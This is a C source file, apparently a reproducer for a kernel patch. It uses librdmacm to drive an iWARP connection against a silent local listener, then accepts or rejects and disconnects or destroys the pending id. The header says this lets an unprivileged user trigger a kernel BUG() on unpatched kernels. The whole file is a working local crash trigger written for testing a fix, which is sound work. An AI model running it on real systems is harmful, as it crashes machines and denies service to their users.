// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * decide ADDRESS accept|reject disconnect|destroy: an unprivileged program that causes a BUG() in a
 * kernel without patch 0004. The program connects the iWARP device of ADDRESS to a TCP listener
 * that never answers. While the connect is pending, the program accepts or rejects the id, as if
 * the id belonged to a connection request. Then the program disconnects or destroys the id.
 *
 *     cc -Wall -o decide decide.c -lrdmacm -libverbs
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <rdma/rdma_cma.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void check(int failed, const char *what) {
    if (!failed)
        return;
    perror(what);
    exit(1);
}

static void expect(struct rdma_event_channel *channel, enum rdma_cm_event_type wanted) {
    struct rdma_cm_event *event;

    check(rdma_get_cm_event(channel, &event), "rdma_get_cm_event");
    printf("event %s, status %d\n", rdma_event_str(event->event), event->status);
    if (event->event != wanted)
        exit(1);
    rdma_ack_cm_event(event);
}

/* Create the peer: a TCP listener that never answers. */
static int silent(struct sockaddr_in *at) {
    socklen_t length = sizeof *at;
    int server = socket(AF_INET, SOCK_STREAM, 0);

    check(server < 0 || bind(server, (struct sockaddr *)at, length) || listen(server, 1) ||
              getsockname(server, (struct sockaddr *)at, &length),
          "listen");
    return server;
}

int main(int argc, char **argv) {
    struct sockaddr_in from = {.sin_family = AF_INET}, to;
    struct rdma_event_channel *channel;
    struct ibv_qp_init_attr attr = {.qp_type = IBV_QPT_RC, .cap = {1, 1, 1, 1, 0}};
    struct rdma_conn_param param = {.responder_resources = 1, .initiator_depth = 1};
    struct rdma_cm_id *id;
    int err;

    if (argc != 4 || !inet_pton(AF_INET, argv[1], &from.sin_addr)) {
        fprintf(stderr, "usage: decide ADDRESS accept|reject disconnect|destroy\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    to = from;
    silent(&to);
    channel = rdma_create_event_channel();
    check(!channel, "rdma_create_event_channel");
    check(rdma_create_id(channel, &id, NULL, RDMA_PS_TCP), "rdma_create_id");
    check(rdma_resolve_addr(id, (struct sockaddr *)&from, (struct sockaddr *)&to, 5000),
          "rdma_resolve_addr");
    expect(channel, RDMA_CM_EVENT_ADDR_RESOLVED);
    check(rdma_resolve_route(id, 5000), "rdma_resolve_route");
    expect(channel, RDMA_CM_EVENT_ROUTE_RESOLVED);
    check(rdma_create_qp(id, NULL, &attr), "rdma_create_qp");
    check(rdma_connect(id, &param), "rdma_connect");

    if (!strcmp(argv[2], "accept"))
        err = rdma_accept(id, &param);
    else
        err = rdma_reject(id, NULL, 0);
    printf("%s: %s\n", argv[2], err ? strerror(errno) : "done");
    /*
     * Hide the QP from rdma_disconnect(). Otherwise, rdma_disconnect() first modifies the QP to
     * SQD, and some drivers refuse this while the connect is pending.
     */
    id->qp = NULL;
    if (!strcmp(argv[3], "disconnect"))
        err = rdma_disconnect(id);
    else
        err = rdma_destroy_id(id);
    printf("%s: %s\n", argv[3], err ? strerror(errno) : "done");
    puts("the kernel stands");
    return 0;
}
